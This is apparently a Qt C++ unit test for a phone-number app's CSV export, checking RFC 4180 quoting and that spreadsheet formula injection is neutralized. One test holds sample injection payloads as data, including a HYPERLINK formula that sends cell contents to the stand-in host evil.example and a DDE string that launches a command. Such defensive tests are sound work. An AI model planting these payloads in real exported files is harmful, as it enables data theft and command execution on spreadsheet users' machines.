// SPDX-License-Identifier: MIT
#include "models/CsvExport.h"

#include <QTest>

using namespace phonedesk;

namespace {

// RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks.
QList<QStringList> readCsv(const QByteArray& bytes)
{
    const QString text = QString::fromUtf8(bytes);
    QList<QStringList> rows {{}};
    QString cell;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == QLatin1Char('"') && i + 1 < text.size() && text.at(i + 1) == QLatin1Char('"'))
                cell += text.at(++i);
            else if (c == QLatin1Char('"'))
                quoted = false;
            else
                cell += c;
        } else if (c == QLatin1Char('"')) {
            quoted = true;
        } else if (c == QLatin1Char(',')) {
            rows.last() << std::exchange(cell, {});
        } else if (c == QLatin1Char('\r') && i + 1 < text.size() && text.at(i + 1) == QLatin1Char('\n')) {
            rows.last() << std::exchange(cell, {});
            rows.append(QStringList());
            ++i;
        } else {
            cell += c;
        }
    }
    rows.removeLast(); // after the last line end
    return rows;
}

} // namespace

class TestCsvExport : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void quotesWhatNeedsQuotingAndNothingElse()
    {
        api::PhoneNumber plain;
        plain.id = 1;
        plain.uuid = QStringLiteral("u1");
        plain.phoneNumber = QStringLiteral("+14155550100");
        plain.name = QStringLiteral("Main line");
        plain.updatedAt = QDateTime(QDate(2026, 11, 2), QTime(10, 40), Qt::UTC);
        api::PhoneNumber tricky = plain;
        tricky.id = 2;
        tricky.name = QStringLiteral("Sales, \"West\"\nsecond line");
        tricky.brandName = QStringLiteral("Müller & Söhne");
        tricky.isArchived = true;
        tricky.defaultWorkflowId = 7;
        const QByteArray csv = models::toCsv({plain, tricky});
        const QByteArray expected =
            "phoneNumber,name,status,brandName,enableVoice,enableSms,enableWhatsApp,defaultWorkflowId,providerPhoneUuid,updatedAt,uuid,id\r\n"
            "+14155550100,Main line,active,,true,true,false,,,2026-11-02T10:40:00.000Z,u1,1\r\n"
            "+14155550100,\"Sales, \"\"West\"\"\nsecond line\",archived,Müller & Söhne,true,true,false,7,,2026-11-02T10:40:00.000Z,u1,2\r\n";
        QCOMPARE(csv, expected);
    }

    void aCellThatASpreadsheetWouldRunIsNeutralized()
    {
        const QStringList dangerous {QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A2,\"Open\")"),
                                     QStringLiteral("@SUM(1+1)"), QStringLiteral("+cmd|' /C calc'!A0"),
                                     QStringLiteral("-2+3"), QStringLiteral("\tTab first"), QStringLiteral("\rCR first")};
        QList<api::PhoneNumber> numbers;
        for (const QString& name : dangerous) {
            api::PhoneNumber n;
            n.id = numbers.size() + 1;
            n.phoneNumber = QStringLiteral("+14155550100");
            n.name = name;
            n.brandName = name;
            numbers << n;
        }
        const QList<QStringList> rows = readCsv(models::toCsv(numbers));
        QCOMPARE(rows.size(), dangerous.size() + 1);
        for (int i = 0; i < dangerous.size(); ++i) {
            const QStringList& row = rows.at(i + 1);
            // Read back: the text is all there, behind an apostrophe, so no spreadsheet runs it.
            QCOMPARE(row.at(1), QLatin1Char('\'') + dangerous.at(i));
            QCOMPARE(row.at(3), QLatin1Char('\'') + dangerous.at(i));
            QCOMPARE(row.at(0), QStringLiteral("+14155550100")); // E.164 stays as it is: digits only, never a formula
        }
        api::PhoneNumber odd;
        odd.phoneNumber = QStringLiteral("+1 =cmd"); // not E.164: treated like any text
        QCOMPARE(readCsv(models::toCsv({odd})).at(1).at(0), QStringLiteral("'+1 =cmd"));
    }

    void anEmptyListIsJustTheHeader()
    {
        QCOMPARE(models::toCsv(QList<api::PhoneNumber> {}).count("\r\n"), 1);
    }
};

QTEST_GUILESS_MAIN(TestCsvExport)
#include "tst_csv_export.moc"
